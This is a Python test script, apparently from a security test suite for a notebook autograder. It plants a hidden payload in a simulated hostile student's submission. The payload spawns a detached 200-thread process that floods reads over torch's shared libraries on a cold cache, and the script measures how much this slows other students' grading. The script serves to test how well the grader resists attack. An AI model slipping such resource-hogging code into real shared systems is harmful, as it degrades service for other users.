"""a04: a01's large reads aimed at torch's libraries on a cold cache (the first grading after a boot, simulated by
dropping this clone's venv from the page cache from the host before each run; the venv is this clone's own copy).
mallory's first cell starts a hog: 200 threads, each preadv of 16 MiB over torch/lib/*.so (chunk i, i+200, ...),
from the first cell to the end of its 100-s last cell. Control run: same cold start, mallory honest.
Compare honest students' times and scores (aaron, bob beside mallory with --workers 2; zoe after)."""
import sys
from common import *

HOG = r'''
import subprocess, sys, os
code = r"""
import os, sys, threading, time, glob
import torch
lib = os.path.join(os.path.dirname(torch.__file__), "lib")
files = sorted(((os.path.getsize(p), p) for p in glob.glob(lib + "/*.so*")), reverse=True)
log = open("/tmp/hog.log", "a", buffering=1)
CH = 16 << 20
chunks = []
for sz, p in files:
    fd = os.open(p, os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_SEQUENTIAL)
    chunks += [(fd, off) for off in range(0, sz, CH)]
log.write(f"{len(files)} libs, {len(chunks)} chunks\n")
buf = bytearray(CH)
end = time.time() + 150
st = {"n": 0, "max": 0.0}
def w(i):
    while time.time() < end:
        for fd, off in chunks[i::200]:
            t = time.time()
            os.preadv(fd, [buf], off)
            st["n"] += 1; st["max"] = max(st["max"], time.time() - t)
for i in range(200):
    threading.Thread(target=w, args=(i,), daemon=True).start()
while time.time() < end:
    time.sleep(5); log.write(f"{time.strftime('%H:%M:%S')} {st}\n")
"""
subprocess.Popen([sys.executable, "-c", code], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=open("/tmp/hog.err", "w"))
'''

def drop_venv_cache():
    n = 0
    for d, _, fs in os.walk(CLONE + "/.venv"):
        for f in fs:
            p = os.path.join(d, f)
            if os.path.isfile(p) and not os.path.islink(p):
                fd = os.open(p, os.O_RDONLY)
                os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED); os.close(fd); n += 1
    print("dropped from cache:", n, "venv files")

if __name__ == "__main__":
    mode = sys.argv[1]
    c = make_course("a04" + mode)
    for s in ("aaron", "bob", "zoe"):
        hand_in(c, s, honest())
    if mode == "attack":
        hand_in(c, "mallory", hostile(prepend={"training_memory": HOG},
                append={"quiz_q5": "import time\ntime.sleep(100)\nprint(open('/tmp/hog.log').read()); print(open('/tmp/hog.err').read()[-1500:])"}))
    else:
        hand_in(c, "mallory", hostile(append={"quiz_q5": "import time\ntime.sleep(100)"}))
    drop_venv_cache()
    p, dt = grade(c, workers=2)
    scores(c); leak_scan(c)
    for i, t in outputs_grep(c, "mallory", "chunks"):
        print("mallory cell", i, t[-2500:])
